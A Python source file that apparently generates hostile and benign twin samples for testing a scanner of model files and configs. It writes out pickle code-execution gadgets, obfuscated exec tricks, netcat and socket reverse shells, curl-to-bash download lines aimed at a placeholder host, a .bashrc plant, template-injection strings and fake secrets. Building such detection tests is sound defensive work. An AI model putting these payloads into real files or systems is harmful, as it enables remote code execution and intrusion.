"""Seventy samples of all families, each by a gadget, format or encoding that the first two sets do not have."""
import base64
import bz2
import gzip
import hashlib
import io
import json
import lzma
import marshal
import struct
import zipfile
import zlib

from assembly import Raw, build, call, dot, get, glob, model, new, new_ex, pickle, put, seq, text, tup, val
from first.arrays import h5, npy, skop
from first.containers import EVIL, FLOATS, GOOD, state, tarred, torch_zip, zipped
from first.graphs import X, attr, const, field, graph, h5_text, keras_zip, layer, node, saved_model
from first.others import R
from first.programs import notebook
from first.stdlib_calls import EXEC, PLAIN, SYSTEM
from first.weights import ARCH, T32, W32, F, gguf, gs, st
from pair import CODE, SHELL, Set

NAMESPACE = new(glob("argparse", "Namespace"))
SQUEEZED = zlib.compress(pickle(call(SYSTEM, SHELL)))


def pickles():
    yield "any-of-map", call(glob("builtins", "any"), call(glob("builtins", "map"), EXEC, [CODE]))
    yield "list-of-starmap", call(glob("builtins", "list"), call(glob("itertools", "starmap"), SYSTEM, [(SHELL,)]))
    yield "takewhile", call(glob("builtins", "tuple"), call(glob("itertools", "takewhile"), SYSTEM, [SHELL]))
    yield "property-getter", call(dot("builtins", "property", "__get__"), call(glob("builtins", "property"), SYSTEM), SHELL)
    yield "lru-cache-wrapper", call(call(call(glob("functools", "lru_cache"), 1), SYSTEM), SHELL)
    yield "singledispatch", call(call(glob("functools", "singledispatch"), SYSTEM), SHELL)
    yield "thread-object-run", call(dot("threading", "Thread", "run"), call(glob("threading", "Thread"), None, SYSTEM, None, (SHELL,)))
    yield "executor-submit", call(dot("concurrent.futures", "ThreadPoolExecutor", "submit"), call(glob("concurrent.futures", "ThreadPoolExecutor"), 1), SYSTEM, SHELL)
    yield "zlib-loads", call(glob("pickle", "loads"), call(glob("zlib", "decompress"), SQUEEZED))
    yield "bz2-file-load", call(glob("pickle", "load"), call(glob("bz2", "BZ2File"), call(glob("io", "BytesIO"), bz2.compress(EVIL))))
    yield "shelve-write", call(glob("shelve", "open"), "marker")
    yield "lzma-open", call(glob("lzma", "open"), "marker", "wb")
    yield "compile-then-exec", call(EXEC, call(glob("builtins", "compile"), CODE, "m", "exec"))
    yield "eval-of-joined", call(glob("builtins", "eval"), call(dot("builtins", "str", "join"), "", ["open('mar", "ker','w')"]))
    yield "vars-of-module", call(call(call(glob("operator", "itemgetter"), "system"), call(glob("builtins", "vars"), glob("shutil", "os"))), SHELL)
    yield "check-output", call(glob("subprocess", "check_output"), ["touch", "marker"])
    yield "os-replace", seq(call(glob("os", "mkdir"), "markerdir"), call(glob("os", "rename"), "markerdir", "marker"))
    yield "make-folders", call(glob("os", "makedirs"), "marker/a/b")


def texts():
    """(family, name, file, hostile, twin, prove)"""
    m = "modeling_x.py"
    yield "program", "exec-open-data", m, {m: "exec(open('weights.txt').read())\n", "weights.txt": "__import__('os').system('touch marker')\n"}, {m: "print(len(open('weights.txt').read()))\n", "weights.txt": "1 2 3\n"}, "python"
    yield "program", "lambda-default", m, "f = lambda c=__import__('os'): c.popen('touch marker').read()\nf()\n", "f = lambda c=__import__('math'): c.sqrt(4)\nf()\n", "python"
    yield "program", "walrus-import", m, "(o := __import__('os')).system('touch marker')\n", "(o := __import__('math')).sqrt(4)\n", "python"
    yield "program", "try-import-else", m, "try:\n    import nothing_here\nexcept ImportError:\n    __import__('subprocess').run(['touch', 'marker'])\n", "try:\n    import nothing_here\nexcept ImportError:\n    nothing_here = None\n", "python"
    yield "program", "dict-dispatch-get", m, "import os\n{'a': os.system}.get('a')('touch marker')\n", "import math\n{'a': math.sqrt}.get('a')(4)\n", "python"
    yield "program", "subclass-of-popen", m, "import subprocess\nclass P(subprocess.Popen):\n    pass\nP(['touch', 'marker']).wait()\n", "import collections\nclass P(collections.OrderedDict):\n    pass\nP([('a', 1)])\n", "python"
    yield "program", "star-arguments", m, "import os\nargs = ('touch marker',)\nos.system(*args)\n", "import math\nargs = (4,)\nmath.sqrt(*args)\n", "python"
    yield "program", "exec-of-docstring", m, "def f():\n    '''__import__('os').system('touch marker')'''\nexec(f.__doc__)\n", "def f():\n    '''Computes.'''\nprint(f.__doc__)\n", "python"
    yield "program", "rot13-codecs", m, "import codecs\nexec(codecs.decode('__vzcbeg__(\"bf\").flfgrz(\"gbhpu znexre\")', 'rot13'))\n", "import codecs\nprint(codecs.decode('uryyb', 'rot13'))\n", "python"
    yield "program", "hex-in-list", m, "exec(bytes([0x5f,0x5f,0x69,0x6d,0x70,0x6f,0x72,0x74,0x5f,0x5f,0x28,0x27,0x6f,0x73,0x27,0x29,0x2e,0x73,0x79,0x73,0x74,0x65,0x6d,0x28,0x27,0x74,0x6f,0x75,0x63,0x68,0x20,0x6d,0x61,0x72,0x6b,0x65,0x72,0x27,0x29]).decode())\n", "print(bytes([0x61, 0x62]).decode())\n", "python"
    yield "program", "runpy-text", m, {m: "import runpy\nrunpy.run_path('notes.txt')\n", "notes.txt": "import os\nos.system('touch marker')\n"}, {m: "import runpy\n", "notes.txt": "hello\n"}, "python"
    yield "program", "spec-from-file", m, {m: "import importlib.util as u, importlib.machinery as k\nl = k.SourceFileLoader('d', 'data.bin')\ns = u.spec_from_loader('d', l)\nmod = u.module_from_spec(s)\nl.exec_module(mod)\n", "data.bin": "import os\nos.system('touch marker')\n"}, {m: "import importlib.util as u\nprint(u.find_spec('json') is not None)\n", "data.bin": "plain text\n"}, "python"
    yield "program", "windows-batch", "setup.bat", "@echo off\r\ncurl -s http://192.0.2.7/a.exe -o a.exe && powershell -enc SQBFAFgA\r\n", "@echo off\r\npip install torch\r\n", None
    yield "program", "ruby-system", "convert.rb", "#!/usr/bin/env ruby\nsystem('curl -s http://192.0.2.7/x | sh')\n", "#!/usr/bin/env ruby\nputs 'done'\n", None
    yield "program", "profile-plant", m, "import os\nwith open(os.path.join(os.environ['HOME'], '.bashrc'), 'a') as f:\n    f.write('id')\n", "import os\nwith open(os.path.join('out', 'log.txt'), 'a') as f:\n    f.write('id')\n", None
    yield "program", "netcat-listen", "start.sh", "#!/bin/bash\nmkfifo /t\x6dp/f; cat /t\x6dp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /t\x6dp/f\n", "#!/bin/bash\nmkdir -p /t\x6dp/f; ls /t\x6dp/f\n", None
    yield "notebook", "raw-socket-shell", "demo.ipynb", notebook("import socket,subprocess,os\ns=socket.socket();s.connect(('192.0.2.7',1))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\nsubprocess.call(['sh'])\n"), notebook("import socket\nprint(socket.gethostname())\n"), None
    yield "notebook", "line-magic-sx", "demo.ipynb", notebook("%sx curl -s http://192.0.2.7/x | bash\n"), notebook("%sx ls\n"), None
    j = json.dumps
    yield "config", "tokenizer-foreign-map", "tokenizer_config.json", j({"tokenizer_class": "X", "auto_map": {"AutoTokenizer": [None, "stranger/repo--tok.Fast"]}}), j({"tokenizer_class": "X", "model_max_length": 512}), None
    yield "config", "hydra-list-target", "cfg.yaml", "steps:\n- _target_: builtins.exec\n  _args_: ['print(1)']\n", "steps:\n- _target_: torch.nn.Linear\n  in_features: 3\n", None
    yield "config", "argo-args", "workflow.yaml", "spec:\n  templates:\n  - container:\n      command: [bash, -c]\n      args: ['wget -qO- http://192.0.2.7/x | bash']\n", "spec:\n  templates:\n  - container:\n      command: [bash, -c]\n      args: ['python train.py']\n", None
    yield "config", "github-step", "train.yml", "jobs:\n  t:\n    steps:\n    - run: curl http://192.0.2.7/s | bash\n", "jobs:\n  t:\n    steps:\n    - run: make test\n", None
    yield "config", "shard-on-other-host", "pytorch_model.bin.index.json", j({"weight_map": {"w": "http://192.0.2.4/w.bin"}}), j({"weight_map": {"w": "w.bin"}}), None
    yield "config", "yaml-new-object", "state.yaml", "a: !!python/object/new:os.system ['touch marker']\n", "a: ['touch marker']\n", "yaml"
    yield "config", "requirements-git", "requirements.txt", "git+http://192.0.2.8/x.git\nnumpy\n", "numpy==2.0\nscipy==1.14\n", None
    yield "config", "pyproject-backend", "pyproject.toml", '[build-system]\nrequires = ["x @ http://192.0.2.8/x.tar.gz"]\nbuild-backend = "x"\n', '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n', None
    yield "secret", "private-key-in-config", "serve.cfg", "[tls]\nkey = -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq3mVx0cJ9yLr2wQkE5nT8sZpHdUgXo4Fi6BvYjW1eRtKhM\nq3mVx0cJ9yLr2wQkE5nT8sZpHdUgXo4Fi6BvYjW1eRtKhMaS7bqZ\n-----END RSA PRIVATE KEY-----\n", "[tls]\nkey = file\n", None
    yield "secret", "github-fine-grained", "notes.md", "token: github_pat_11AB7QXZ0Lk3mVx0cJ9yLr_2wQkE5nT8sZpHdUgXo4Fi6BvYjW1eRtKhMaS7bqZ3dC5fG7hJ9\n", "token: none\n", None


def binaries():
    yield "container", "zip-in-zip-stored", "bundle.zip", zipped([("inner.zip", zipped([("deep.zip", zipped([("m.pkl", EVIL)]))]))]), zipped([("inner.zip", zipped([("deep.zip", zipped([("m.pkl", GOOD)]))]))]), None
    yield "container", "xz-check-none", "m.pkl.xz", lzma.compress(EVIL, check=lzma.CHECK_NONE), lzma.compress(GOOD, check=lzma.CHECK_NONE), "pandas"
    yield "container", "tar-bz2", "m.tar.bz2", tarred([("x/m.pkl", EVIL)], "w:bz2"), tarred([("x/m.pkl", GOOD)], "w:bz2"), None
    yield "container", "gzip-of-tar-of-gzip", "a.tgz", gzip.compress(tarred([("m.pkl.gz", gzip.compress(EVIL, mtime=0))]), mtime=0), gzip.compress(tarred([("m.pkl.gz", gzip.compress(GOOD, mtime=0))]), mtime=0), None
    yield "container", "pickle-after-npy", "w.npy", npy("'<f4'", "(2,)", b"\0" * 8) + EVIL, npy("'<f4'", "(2,)", b"\0" * 8), None
    yield "container", "npz-pickle-member", "w.npz", zipped([("a.npy", npy("'<f4'", "(1,)", b"\0" * 4)), ("meta.pkl", EVIL)]), zipped([("a.npy", npy("'<f4'", "(1,)", b"\0" * 4)), ("meta.json", b"{}")]), None
    yield "container", "h5-compressed-object", "m.h5", h5({"note": b"x" * 40, "clf": b"\0" * 8 + EVIL}), h5({"note": b"x" * 40, "clf": b"\0" * 8 + GOOD}), None
    yield "torch", "state-with-getattr", "m.pt", torch_zip(state(call(call(glob("builtins", "getattr"), glob("shutil", "os"), "system"), SHELL))), torch_zip(state(call(glob("collections", "OrderedDict")))), None
    yield "torch", "nested-root", "m.pth", zipped([("out/archive/data.pkl", state(call(SYSTEM, SHELL))), ("out/archive/data/0", FLOATS), ("out/archive/version", b"3\n")]), zipped([("out/archive/data.pkl", state()), ("out/archive/data/0", FLOATS), ("out/archive/version", b"3\n")]), None
    code = base64.b64encode(marshal.dumps(compile(CODE, "m", "exec"))).decode()
    lam = {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": code}}}}
    yield "keras", "lambda-in-custom-wrapper", "m.keras", keras_zip([layer("Wrapper", {"inner": {"deep": [lam]}}, module="my.layers", registered="my>Wrapper")]), keras_zip([layer("Dense", {"units": 2})]), None
    yield "keras", "loss-from-module", "m.keras", keras_zip([layer("Dense", {"units": 2})], {"loss": {"module": "subprocess", "class_name": "function", "config": "getoutput", "registered_name": "getoutput"}}), keras_zip([layer("Dense", {"units": 2})], {"loss": {"module": "keras.losses", "class_name": "MeanSquaredError", "config": {}}}), None
    yield "tensorflow", "lmdb-reader", "graph.pb", graph([X, node("r", "LMDBReader")]), graph([X, node("r", "Relu", ("x",))]), None
    yield "tensorflow", "py-func-in-function", "saved_model.pb", saved_model(graph([X], [("f", [node("p", "PyFuncStateless", ("x",), attr("token", s="t"))])])), saved_model(graph([X], [("f", [node("p", "Relu", ("x",))])])), None
    yield "gguf", "template-in-array", "m.gguf", gguf([ARCH, ("tokenizer.chat_templates", 9, struct.pack("<IQ", 8, 1) + gs("x")), ("tokenizer.chat_template.x", 8, gs("{{ cycler.__init__.__globals__.os.popen('id').read() }}"))], T32, W32), gguf([ARCH, ("tokenizer.chat_templates", 9, struct.pack("<IQ", 8, 1) + gs("x")), ("tokenizer.chat_template.x", 8, gs("{{ messages }}"))], T32, W32), None
    yield "gguf", "unaligned-offset", "m.gguf", gguf([ARCH], [("w", (32,), 0, 7)], W32 + b"\0" * 32), gguf([ARCH], [("w", (32,), 0, 0)], W32), None
    yield "safetensors", "wrong-size-for-shape", "m.safetensors", st({"a": F(0, 32, (4,)), "b": F(32, 64)}, FLOATS[:64]), st({"a": F(0, 32), "b": F(32, 64)}, FLOATS[:64]), None
    yield "safetensors", "header-too-long", "m.safetensors", struct.pack("<Q", 1 << 40) + b'{"a":1}', st({"a": F(0, 32)}, FLOATS[:32]), None
    x = R()
    bang = x.lang("system", x.string("id"))
    yield "r", "rds-bz2-promise", "m.rds", bz2.compress(x.head() + x.promise(bang)), bz2.compress(x.head() + x.real(2.0)), None
    a = R(True)
    yield "r", "rda-text-closure", "m.rda", b"RDA2\n" + a.head() + a.pairs((".First", a.closure(a.lang("system", a.string("id"))))), b"RDA2\n" + a.head() + a.pairs(("x", a.real(1.5))), None
    obj = lambda mod, name: {"__class__": name, "__module__": mod, "__loader__": "FunctionNode", "content": {"module_path": mod, "function": name}, "__id__": 77}
    yield "arrays", "skops-builtins-eval", "m.skops", skop(obj("builtins", "eval")), skop(obj("numpy", "exp")), None


def add(out: Set):
    for n, (name, hostile) in enumerate(pickles()):
        out.add("pickle", name, pickle(model(hostile), 4), pickle(model(PLAIN[(n + 7) % len(PLAIN)]), 4), "pickle", file=["a.pkl", "b.pickle", "c.sav"][n % 3])
    for family, name, file, hostile, twin, prove in [*texts(), *binaries()]:
        if isinstance(hostile, dict):
            out.add(family, name, hostile, twin, prove)
        else:
            out.add(family, name, hostile, twin, prove, file=file)
